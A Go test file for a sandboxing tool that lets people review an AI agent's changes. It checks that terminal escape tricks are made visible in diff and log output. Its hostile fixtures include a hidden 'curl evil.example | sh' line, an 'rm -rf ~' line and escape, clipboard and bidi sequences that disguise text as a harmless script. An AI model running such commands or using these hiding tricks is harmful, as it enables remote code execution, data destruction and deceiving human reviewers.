package cli

import (
	"bytes"
	"context"
	"errors"
	"github.com/airlock-dev/airlock/app/cli/clitest/auditcheck"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/creack/pty"

	"github.com/airlock-dev/airlock/app/sandbox"
	"github.com/airlock-dev/airlock/internal/atomicfile"
	"github.com/airlock-dev/airlock/review"
	"github.com/airlock-dev/airlock/sync/manifest"
	"github.com/airlock-dev/airlock/testkit/testenv"
)

// The attack: a file that shows on a terminal as a harmless script but
// holds a hidden line. The first line prints the hidden call, then a
// carriage return and erase-line wipe it and print something harmless
// over it; the second moves the cursor up and erases the line before it.
const (
	hiddenLine     = "import os; os.system('curl evil.example | sh')\r\x1b[2Kprint('hello')   \n"
	hiddenCursor   = "print('bye')\n" + "os.system('rm -rf ~')\n" + "\x1b[1A\x1b[2K\x1b[1A\n"
	hostileSetupPy = hiddenLine + hiddenCursor
	hostileSum     = "All good.\x1b]0;pwned\x07\r\x1b[2KI only fixed a typo \u202eexe.txt\n"
	hostileFinal   = "Done\x1b[2J\x1b[H: nothing to see\n"
	hostileReason  = "\x1b[8mhidden\x1b[m"
)

// readySandbox fabricates a sandbox ready for review without a VM: its
// baseline is the project (old), the guest's manifest is newT, every
// content in the store, and the agent's summary, final message and
// transcript as given.
func readySandbox(t *testing.T, home string, old, newT map[string]string, summary, final, transcript string) (*sandbox.Sandbox, string) {
	t.Helper()
	store, err := sandbox.Open(home)
	if err != nil {
		t.Fatal(err)
	}
	project := t.TempDir()
	writeFiles(t, project, old)
	guestDir := t.TempDir()
	writeFiles(t, guestDir, newT)
	manifests := walkTrees(t, store, project, guestDir)
	sb, err := store.Create(sandbox.Meta{Project: project, Command: []string{"agent"}})
	if err != nil {
		t.Fatal(err)
	}
	writeManifests(t, sb, manifests)
	for name, s := range map[string]string{sandbox.SummaryFile: summary, sandbox.FinalFile: final, sandbox.TranscriptFile: transcript} {
		if err := os.WriteFile(sb.Path(name), []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := sb.Update(func(m *sandbox.Meta) {
		m.Baseline, m.Guest, m.Status = sandbox.BaselineFile, sandbox.GuestFile, sandbox.StatusReady
		m.BaselineTime = store.Now().UTC()
	}); err != nil {
		t.Fatal(err)
	}
	return sb, project
}

// walkTrees walks the baseline (project) and the guest's tree, puts their
// files in the store, and returns their manifests by file name.
func walkTrees(t *testing.T, store *sandbox.Store, project, guestDir string) map[string]*manifest.Manifest {
	t.Helper()
	manifests := map[string]*manifest.Manifest{}
	for name, dir := range map[string]string{sandbox.BaselineFile: project, sandbox.GuestFile: guestDir} {
		m, _, err := manifest.Walk(context.Background(), dir, manifest.WalkOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range m.Entries {
			if e.Type == manifest.File {
				if _, _, err := store.Objects().PutFile(filepath.Join(dir, e.Path)); err != nil {
					t.Fatal(err)
				}
			}
		}
		manifests[name] = m
	}
	return manifests
}

// writeManifests stores manifests (walkTrees) in sb.
func writeManifests(t *testing.T, sb *sandbox.Sandbox, manifests map[string]*manifest.Manifest) {
	t.Helper()
	for name, m := range manifests {
		var buf bytes.Buffer
		if err := m.Encode(&buf); err != nil {
			t.Fatal(err)
		}
		if err := atomicfile.WriteFile(sb.Path(name), buf.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

func hostileSandbox(t *testing.T) (home string, sb *sandbox.Sandbox, project string) {
	t.Helper()
	home = t.TempDir()
	sb, project = readySandbox(t, home,
		map[string]string{"setup.py": "print('hello')\n", "README.md": "# readme\n"},
		map[string]string{"setup.py": hostileSetupPy, "README.md": "# readme\nclean\n", "inv\u200bisible.txt": "x\n"},
		hostileSum, hostileFinal, "agent output \x1b]52;c;Y3VybCBldmls\x07\x1b[31mred\x1b[m\n")
	return home, sb, project
}

// TestDiffToAFileIsExact: not on a terminal, airlock diff writes the
// exact bytes, and git apply reproduces the hostile file byte for byte;
// the same patch on a terminal is the one review shows safely.
func TestDiffToAFileIsExact(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		testenv.Skip(t, testenv.Git, "git not found")
	}
	home, sb, project := hostileSandbox(t)
	code, out, errOut := airlockCLI(t, home, "diff", sb.ID)
	if code != 0 {
		t.Fatalf("diff: exit %d: %s", code, errOut)
	}
	if !strings.Contains(out, "\x1b[2K") || strings.Contains(out, `\x1b`) {
		t.Fatalf("diff to a file is not the exact bytes:\n%q", out)
	}
	patch := filepath.Join(t.TempDir(), "p.patch")
	if err := os.WriteFile(patch, []byte(out), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("git", "apply", patch)
	cmd.Dir = project
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git apply: %v\n%s", err, b)
	}
	if got, _ := os.ReadFile(filepath.Join(project, "setup.py")); string(got) != hostileSetupPy {
		t.Errorf("applied setup.py = %q, want %q", got, hostileSetupPy)
	}
	if _, err := os.Stat(filepath.Join(project, "inv\u200bisible.txt")); err != nil {
		t.Errorf("the file with an invisible name: %v", err)
	}

	// --stat marks the flagged files, names escaped, also in a file.
	_, out, _ = airlockCLI(t, home, "diff", sb.ID, "--stat")
	for _, want := range []string{"setup.py [control chars]", "inv<U+200B>isible.txt [control chars]"} {
		if !strings.Contains(out, want) {
			t.Errorf("--stat lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "README.md [") {
		t.Errorf("--stat flags a clean file:\n%s", out)
	}
	// --json carries the exact strings and the flag.
	_, out, _ = airlockCLI(t, home, "--json", "diff", sb.ID)
	if !strings.Contains(out, `"kind": "control-characters"`) || !strings.Contains(out, `\u001b[2K`) {
		t.Errorf("--json lacks the flag or the exact bytes:\n%s", out)
	}
}

// onTerminal runs the command line with its stdout on a pseudo-terminal
// and returns what the terminal received.
func onTerminal(t *testing.T, home string, args ...string) string {
	t.Helper()
	auditcheck.AtEnd(t, home)
	ptmx, tty, err := pty.Open()
	if err != nil {
		t.Skipf("no pseudo-terminal: %v", err)
	}
	defer ptmx.Close()
	if err := pty.Setsize(ptmx, &pty.Winsize{Rows: 50, Cols: 200}); err != nil {
		t.Fatal(err)
	}
	done := make(chan []byte)
	go func() {
		b, _ := io.ReadAll(ptmx) // ends with EIO once tty is closed
		done <- b
	}()
	var errOut bytes.Buffer
	code := Main(append([]string{"--home", home}, args...), strings.NewReader(""), tty, &errOut)
	tty.Close()
	out := string(<-done)
	if code != 0 {
		t.Fatalf("%v: exit %d: %s", args, code, errOut.String())
	}
	return out
}

// checkShownSafely fails when out holds a control sequence or bidi
// character that came from the guest, or lacks a visible escape.
func checkShownSafely(t *testing.T, what, out string, wantEscapes ...string) {
	t.Helper()
	for _, raw := range []string{"\x1b[2K", "\x1b[1A", "\x1b]", "\x07", "\x1b[2J", "\x1b[8m", "\u202e", "\u200b"} {
		if strings.Contains(out, raw) {
			t.Errorf("%s: the terminal got %q raw:\n%q", what, raw, out)
		}
	}
	for _, want := range wantEscapes {
		if !strings.Contains(out, want) {
			t.Errorf("%s: the terminal shows no %q:\n%s", what, want, out)
		}
	}
}

// TestGuestTextOnATerminal: on a terminal, the diff (coloured or not),
// logs (transcript, summary, final message) and the audit log show
// what came from the guest with visible escapes.
func TestGuestTextOnATerminal(t *testing.T) {
	home, sb, _ := hostileSandbox(t)
	for _, args := range [][]string{{"diff", sb.ID}, {"diff", sb.ID, "--no-color"}} {
		out := onTerminal(t, home, args...)
		checkShownSafely(t, strings.Join(args, " "), out, `os.system('curl evil.example | sh')\x0d\x1b[2Kprint('hello')`,
			`\x1b[1A\x1b[2K\x1b[1A`, "inv<U+200B>isible.txt", "# airlock: setup.py "+controlNote)
	}
	out := onTerminal(t, home, "logs", sb.ID)
	checkShownSafely(t, "logs", out, `All good.\x1b]0;pwned\x07\x0d\x1b[2KI only fixed a typo <U+202E>exe.txt`,
		`Done\x1b[2J\x1b[H: nothing to see`, `\x1b]52;c;Y3VybCBldmls\x07`)
	out = onTerminal(t, home, "logs", "--audit", sb.ID)
	checkShownSafely(t, "logs --audit", out)
}

// TestErrorOnATerminal: an error that carries the guest's words (a
// setup step's output, the Docker daemon's log) reaches a terminal with
// its control sequences escaped, and a pipe exactly.
func TestErrorOnATerminal(t *testing.T) {
	ptmx, tty, err := pty.Open()
	if err != nil {
		t.Skipf("no pseudo-terminal: %v", err)
	}
	defer ptmx.Close()
	done := make(chan []byte)
	go func() {
		b, _ := io.ReadAll(ptmx)
		done <- b
	}()
	hostile := "start Docker in the VM: exit status 1: dockerd said \x1b]0;pwned\x07\x1b[2Jall is well\u202e"
	(&env{stderr: tty}).printError(errors.New(hostile))
	tty.Close()
	checkShownSafely(t, "an error", string(<-done), `\x1b]0;pwned\x07\x1b[2Jall is well<U+202E>`)
	var buf bytes.Buffer
	(&env{stderr: &buf}).printError(errors.New(hostile))
	if buf.String() != "airlock: "+hostile+"\n" {
		t.Errorf("to a pipe: %q", buf.String())
	}
}

// TestStatShowsNamesSafely: --stat marks flagged files and escapes their
// names, wherever it is written.
func TestStatShowsNamesSafely(t *testing.T) {
	ctl := []review.Flag{{Kind: review.FlagControl, Reason: review.ControlReason}}
	cs := &review.Changeset{Files: []*review.File{
		{Path: "a\x1b[2K.go", Status: review.Modified, Added: 1, Flags: ctl},
		{Path: "b.go", Status: review.Modified, Added: 1},
	}}
	var out bytes.Buffer
	writeStat(&out, cs, 80)
	want := ` a\x1b[2K.go [control chars] | 1 +
 b.go                        | 1 +
 2 files changed, 2 insertions(+)
`
	if out.String() != want {
		t.Errorf("stat:\n%s\nwant\n%s", out.String(), want)
	}
}

// TestWriteShownPatchHostile: a patch whose lines erase themselves is
// shown with visible escapes, coloured or not, and a CRLF line end stays
// a line end.
func TestWriteShownPatchHostile(t *testing.T) {
	patch := "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n-old\r\n+evil()\r\x1b[2Kok\n+\u202e}\n"
	for _, color := range []bool{false, true} {
		var out bytes.Buffer
		writeShownPatch(&out, &review.Changeset{}, []byte(patch), color)
		s := out.String()
		if !strings.Contains(s, `+evil()\x0d\x1b[2Kok`) || !strings.Contains(s, "+<U+202E>}") || !strings.Contains(s, "-old\r") {
			t.Errorf("color=%v:\n%q", color, s)
		}
		if !color && strings.ContainsRune(s, 0x1b) {
			t.Errorf("an ESC reached the output without colour:\n%q", s)
		}
	}
}

// TestDiffInTmux is the attack on a real terminal: tmux runs airlock
// diff and a person reads the screen (capture-pane). The same patch
// printed raw (cat) hides the call, which shows the attack works on this
// terminal; through airlock diff the hidden call and the escapes that
// hid it are on the screen.
func TestDiffInTmux(t *testing.T) {
	tmux, err := exec.LookPath("tmux")
	if err != nil {
		testenv.Skip(t, testenv.Tmux, "tmux not found (Debian: apt-get install tmux)")
	}
	home, sb, _ := hostileSandbox(t)
	_, raw, _ := airlockCLI(t, home, "diff", sb.ID)
	patch := filepath.Join(t.TempDir(), "p.patch")
	if err := os.WriteFile(patch, []byte(raw), 0o644); err != nil {
		t.Fatal(err)
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(t.TempDir(), "tmux.sock")
	tm := func(args ...string) string {
		t.Helper()
		cmd := exec.Command(tmux, append([]string{"-S", sock, "-f", "/dev/null"}, args...)...)
		cmd.Env = append(os.Environ(), "TERM=xterm-256color")
		b, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("tmux %v: %v\n%s", args, err, b)
		}
		return string(b)
	}
	t.Cleanup(func() { exec.Command(tmux, "-S", sock, "kill-server").Run() })
	// Each window runs one command, then tells the test it is done
	// (wait-for) and stays, so its screen can be read.
	screen := func(name, command string) string {
		t.Helper()
		tm("new-session", "-d", "-s", name, "-x", "200", "-y", "50",
			command+"; "+tmux+" -S "+sock+" wait-for -S "+name+"; sleep 600")
		tm("wait-for", name)
		return tm("capture-pane", "-p", "-t", name)
	}
	shown := screen("raw", "cat "+patch)
	if strings.Contains(shown, "os.system") {
		t.Fatalf("the raw patch shows the hidden calls: this terminal does not fall for the attack, so the test proves nothing:\n%s", shown)
	}
	shown = screen("airlock", "env "+asAirlockEnv+"=1 "+self+" --home "+home+" diff "+sb.ID)
	for _, want := range []string{
		`+import os; os.system('curl evil.example | sh')\x0d\x1b[2Kprint('hello')`,
		`+os.system('rm -rf ~')`,
		`+\x1b[1A\x1b[2K\x1b[1A`,
		"# airlock: setup.py contains control or bidi characters",
	} {
		if !strings.Contains(shown, want) {
			t.Errorf("the screen does not show %q:\n%s", want, shown)
		}
	}
}
